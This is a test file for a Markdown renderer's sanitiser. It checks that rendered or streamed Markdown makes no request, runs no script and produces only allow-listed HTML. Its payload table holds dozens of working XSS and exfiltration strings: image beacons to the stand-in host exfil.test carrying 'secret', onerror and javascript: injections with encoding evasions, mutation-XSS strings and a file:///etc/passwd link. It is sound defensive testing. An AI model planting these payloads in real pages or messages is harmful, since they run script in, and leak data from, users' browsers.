/** Hostile Markdown, rendered whole and streamed: nothing is fetched, nothing runs, nothing unlisted is on the page. */
import * as fc from 'fast-check';
import { Marked } from 'marked';
import { afterAll, afterEach, expect, test } from 'vitest';
import { createBlockElement } from '../../src/ui/markdown/block-element';
import { createMarkdownView } from '../../src/ui/markdown/markdown-view';

const HOST = 'https://exfil.test';
const PWN = 'pwn()';
Object.assign(window, { pwn: () => Object.assign(window, { __pwned: 1 }) });

/** Each tries to make a request or to run script. Several are fetched by DOMPurify's default settings. */
const PAYLOADS: Readonly<Record<string, string>> = {
  image: `![x](${HOST}/a?q=secret)`,
  'image in a link': `[![x](${HOST}/a)](${HOST}/b)`,
  'reference image': `![x][ref]\n\n[ref]: ${HOST}/ref "t"`,
  'image title breakout': `![x](${HOST}/t 'a" onerror="${PWN}" x="')`,
  'image alt breakout': `![x" src=x onerror="${PWN}](${HOST}/alt)`,
  'html image': `<img src=${HOST}/img onerror=${PWN}>`,
  'broken html image': `<img src="x" onerror="${PWN}"//`,
  'image in a code tag': `a <code> <img src=${HOST}/code onerror=${PWN}> </code>`,
  srcset: `<img srcset="${HOST}/s1 1x, ${HOST}/s2 2x"><picture><source srcset=${HOST}/s3><img></picture>`,
  'svg image': `<svg><image href="${HOST}/svgi"/><use xlink:href="${HOST}/u#x"/><feImage href="${HOST}/fe"/></svg>`,
  'svg script': `<svg><script>${PWN}</script></svg><svg onload=${PWN}>`,
  'svg animate': `<svg><a><animate attributeName=href values=javascript:${PWN} /><text>click</text></a></svg>`,
  'style import': `<style>@import url(${HOST}/css);body{background:url(${HOST}/bg)}</style>`,
  'style attribute': `<div style="background:url(${HOST}/st);width:expression(${PWN})">x</div>`,
  'old background attribute': `<table background="${HOST}/tb"><tr><td background="${HOST}/td">x</table>`,
  stylesheet: `<link rel=stylesheet href=${HOST}/link><link rel=preload as=image href=${HOST}/pre>`,
  'meta refresh': `<meta http-equiv=refresh content="0;url=${HOST}/meta">`,
  form: `<form action=${HOST}/form><input name=q autofocus onfocus=${PWN}><button formaction=${HOST}/f2>go</button></form>`,
  'image button': `<input type=image src=${HOST}/inp>`,
  iframe: `<iframe src=${HOST}/frame></iframe>\n\n<iframe srcdoc="<script>parent.pwn()</script>"></iframe>`,
  object: `<object data=${HOST}/obj></object><embed src=${HOST}/emb>`,
  media: `<video poster=${HOST}/p src=${HOST}/v><source src=${HOST}/so><track default src=${HOST}/tr></video><audio src=${HOST}/au>`,
  'media error': `<video><source onerror="${PWN}"></video><audio src onerror=${PWN}>`,
  base: `<base href=${HOST}/>\n\n[x](relative)`,
  'javascript link': `[x](javascript:${PWN})`,
  'javascript in entities': `[x](&#106;avascript&colon;${PWN}) [y](&#x6A;avascript:${PWN})`,
  'javascript in capitals and blanks': `[x](JaVaScRiPt:${PWN}) [y](<java\tscript:${PWN}>) [z](<  javascript:${PWN}>)`,
  'javascript with controls': `[x](\u0001javascript:${PWN}) [y](java%0ascript:${PWN}) [z](\u0000javascript:${PWN})`,
  'vbscript and data': `[x](vbscript:${PWN}) [y](data:text/html,<script>${PWN}</script>) ![z](data:image/svg+xml,<svg/onload=${PWN}>)`,
  'other schemes':
    '[a](file:///etc/passwd) [b](blob:x) [c](ftp://exfil.test/x) [d](intent://x) [e](//exfil.test/x) [f](/admin)',
  'javascript autolink': `<javascript:${PWN}> <JAVASCRIPT:${PWN}> <data:text/html,x>`,
  'reference link': `[x][r]\n\n[r]: javascript:${PWN}`,
  'title breakout': `[a](http://exfil.test "x\\" onmouseover=\\"${PWN}") [b](http://exfil.test 'x" onclick="${PWN}')`,
  'address breakout': `[a](<http://exfil.test/"onmouseover="${PWN}>) [b](http://exfil.test/"onfocus=${PWN}/autofocus=")`,
  'math mutation': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${PWN}&gt;">`,
  'svg style mutation': `<svg></p><style><a id="</style><img src=${HOST}/m onerror=${PWN}>">`,
  'noscript mutation': `<noscript><p title="</noscript><img src=${HOST}/ns onerror=${PWN}>">`,
  'form mutation': `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${PWN}>`,
  template: `<template><img src=${HOST}/tpl onerror=${PWN}></template>`,
  'declarative shadow root': `<div><template shadowrootmode=open><img src=${HOST}/sr onerror=${PWN}></template></div>`,
  script: `<script>${PWN}</script>\n<script src=${HOST}/js></script>`,
  details: `<details open ontoggle=${PWN}><summary>x</summary></details>`,
  marquee: `<marquee onstart=${PWN}>x</marquee><body onload=${PWN}><xss tabindex=1 onfocus=${PWN} autofocus>`,
  'code fence info': `\`\`\`js" onclick="${PWN}" class="x\ncode\n\`\`\`\n\n~~~"><img/src=${HOST}/info/onerror=${PWN}>\nx\n~~~`,
  'code fence content': `\`\`\`html\n</code></pre><img src=${HOST}/cf onerror=${PWN}>\n\`\`\``,
  'code span': `\`</code><img src=${HOST}/cs onerror=${PWN}>\``,
  comment: `<!--><img src=${HOST}/c1 onerror=${PWN}>-->\n\n<!--!> <img src=${HOST}/c2> -->\n\n<?x <img src=${HOST}/c3>?>\n\n<![CDATA[<img src=${HOST}/c4>]]>`,
  'table cell': `| a | b |\n|---|:-:|\n| <img src=${HOST}/cell onerror=${PWN}> | ![x](${HOST}/cell2) [y](javascript:${PWN}) |`,
  'list and quote': `- <img src=${HOST}/li>\n  > <iframe src=${HOST}/bq>\n\n1. ![x](${HOST}/ol)`,
  'clobbering and ids': '<img name=getElementById><a id=container name=x href=x>y</a><form id=attributes>',
  'heading html': `# <img src=${HOST}/h onerror=${PWN}>\n\n<h1 onclick=${PWN} class=code-copy>x</h1>\n===`,
};

/** Those that the control renders without any wall. */
const UNSAFE = [
  'image',
  'reference image',
  'html image',
  'srcset',
  'style import',
  'media',
  'title breakout',
  'details',
  'image in a code tag',
  'javascript link',
];

const HTML_ELEMENTS = new Set(
  'p br hr h3 h4 h5 h6 blockquote pre code strong em del a ul ol li input table thead tbody tr th td div span button'.split(
    ' ',
  ),
);
/** Allowed values by "element.attribute"; `*` for any element. */
const ATTRIBUTES: Readonly<Record<string, RegExp>> = {
  'a.href': /^(?:https?:\/\/|mailto:)/,
  'a.title': /^(?:https?:\/\/|mailto:)/,
  'a.rel': /^noopener noreferrer nofollow$/,
  'a.target': /^_blank$/,
  'ol.start': /^\d+$/,
  'th.align': /^(?:left|right|center)$/,
  'td.align': /^(?:left|right|center)$/,
  'input.type': /^checkbox$/,
  'input.checked': /^$/,
  'input.disabled': /^$/,
  'input.aria-label': /^(?:Done|Not done)$/,
  'code.data-language': /^/,
  'button.type': /^button$/,
  'button.class': /^code-copy$/,
  'button.data-copies': /^\d+$/,
  'pre.class': /^code-box$/,
  'pre.role': /^group$/,
  'pre.tabindex': /^0$/,
  'pre.aria-label': /^Code/,
  'div.class': /^(?:code-block|code-header|table-box)$/,
  'div.role': /^group$/,
  'div.tabindex': /^0$/,
  'div.aria-label': /^Table$/,
  'div.aria-live': /^off$/,
  'span.class': /^(?:code-language|code-status|hljs-[\w\s-]+)$/,
  'span.role': /^status$/,
};

const requested = new Set<string>();
const observer = new PerformanceObserver((list) => list.getEntries().forEach(note));
observer.observe({ type: 'resource', buffered: true });

afterAll(() => observer.disconnect());
afterEach(() => {
  document.body.replaceChildren();
  Reflect.deleteProperty(window, '__pwned');
});

for (const [name, payload] of Object.entries(PAYLOADS)) {
  test(`${name}: rendered whole, it asks nothing, runs nothing and brings nothing unlisted`, async () => {
    const container = attached();
    createMarkdownView(container).update(payload, { isFinal: true });
    expect(violationsIn(container)).toEqual([]);
    provoke(container);
    await settled();
    expect(leaks()).toEqual([]);
  });

  test(`${name}: streamed in any pieces, it is as harmless at every step`, async () => {
    fc.assert(
      fc.property(fc.array(fc.integer({ min: 1, max: payload.length }), { maxLength: 12 }), (cuts) => {
        const container = attached();
        const view = createMarkdownView(container);
        for (const cut of cuts.toSorted((a, b) => a - b)) {
          view.update(payload.slice(0, cut), { isFinal: false });
          expect(violationsIn(container)).toEqual([]);
        }
        view.update(payload, { isFinal: true });
        expect(violationsIn(container)).toEqual([]);
        provoke(container);
        container.remove();
      }),
      { numRuns: 12 },
    );
    for (let end = 1; end < payload.length; end += 1) {
      const container = attached();
      createMarkdownView(container).update(payload.slice(0, end), { isFinal: true });
      expect(violationsIn(container)).toEqual([]);
      container.remove();
    }
    await settled();
    expect(leaks()).toEqual([]);
  });
}

test('all payloads in one message, in any order, are harmless', async () => {
  fc.assert(
    fc.property(
      fc.shuffledSubarray(Object.values(PAYLOADS), { minLength: 2 }),
      fc.constantFrom('\n\n', '\n', ' '),
      (some, joint) => {
        const container = attached();
        createMarkdownView(container).update(some.join(joint), { isFinal: true });
        expect(violationsIn(container)).toEqual([]);
        provoke(container);
        container.remove();
      },
    ),
    { numRuns: 60 },
  );
  await settled();
  expect(leaks()).toEqual([]);
});

test('the second wall alone, fed with the raw HTML, is as harmless', async () => {
  const unsafe = new Marked();
  for (const payload of Object.values(PAYLOADS)) {
    for (const html of [
      payload,
      await unsafe.parse(payload),
      payload.replaceAll('\n', ''),
      `<pre>${payload}`,
      `<table><td>${payload}`,
    ]) {
      const container = attached();
      container.append(createBlockElement(html));
      expect(violationsIn(container)).toEqual([]);
      provoke(container);
      container.remove();
    }
  }
  await settled();
  expect(leaks()).toEqual([]);
});

test('all payloads left on the page for longer than a failing request takes have asked nothing', async () => {
  for (const payload of Object.values(PAYLOADS)) {
    createMarkdownView(attached()).update(payload, { isFinal: true });
    attached().append(createBlockElement(payload));
  }
  await new Promise((resolve) => setTimeout(resolve, 2_000));
  await settled();
  expect(leaks()).toEqual([]);
});

// Last, because its requests stay in the record.
test('the same detection catches an unsafe rendering of the same payloads', async () => {
  const unsafe = new Marked();
  const caught = { scripts: [] as string[], violations: [] as string[] };
  for (const name of UNSAFE) {
    const payload = PAYLOADS[name] ?? '';
    const container = attached();
    container.innerHTML = await unsafe.parse(payload);
    if (violationsIn(container).length > 0) caught.violations.push(name);
    provoke(container);
    await settled();
    if (leaks().includes('script')) caught.scripts.push(name);
    Reflect.deleteProperty(window, '__pwned');
  }
  expect(caught.violations).toEqual(UNSAFE);
  expect(caught.scripts).toEqual(expect.arrayContaining(['html image', 'details', 'image in a code tag']));
  await expect
    .poll(() => [...requested].map((url) => new URL(url).pathname), { timeout: 10_000 })
    .toEqual(expect.arrayContaining(['/a', '/ref', '/img', '/css', '/p', '/code']));
});

function attached(): HTMLElement {
  return document.body.appendChild(document.createElement('div'));
}

/** Everything in the container that is not on the list, as "element", "element.attribute" or "element.attribute=value". */
function violationsIn(container: HTMLElement): string[] {
  const found: string[] = [];
  const walker = document.createTreeWalker(container, NodeFilter.SHOW_ALL);
  for (let node = walker.nextNode(); node; node = walker.nextNode()) {
    if (node instanceof Text) continue;
    if (!(node instanceof HTMLElement) || !HTML_ELEMENTS.has(node.localName) || node.shadowRoot) {
      found.push(node.nodeName);
      continue;
    }
    for (const { name, value } of node.attributes) {
      if (!ATTRIBUTES[`${node.localName}.${name}`]?.test(value))
        found.push(`${node.localName}.${name}=${value}`);
    }
  }
  return found;
}

/** Does to every element what a visitor could, without leaving the page. */
function provoke(container: HTMLElement): void {
  window.addEventListener('click', stay);
  for (const element of container.querySelectorAll<HTMLElement>('*')) {
    if (element.matches('.code-copy')) continue;
    for (const type of [
      'mouseover',
      'mouseenter',
      'pointerdown',
      'focus',
      'focusin',
      'keydown',
      'toggle',
      'error',
      'load',
    ]) {
      element.dispatchEvent(new Event(type, { bubbles: type !== 'error', cancelable: true }));
    }
    element.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));
    if (element instanceof HTMLElement) element.focus();
  }
  window.removeEventListener('click', stay);
}

function stay(event: Event): void {
  event.preventDefault();
}

/** Time enough for an image's error handler and for a request to be recorded. */
async function settled(): Promise<void> {
  await new Promise((resolve) => setTimeout(resolve, 60));
  observer.takeRecords().forEach(note);
}

function note(entry: PerformanceEntry): void {
  if (new URL(entry.name, location.href).hostname === 'exfil.test') requested.add(entry.name);
}

function leaks(): string[] {
  return [...requested, ...('__pwned' in window ? ['script'] : [])];
}
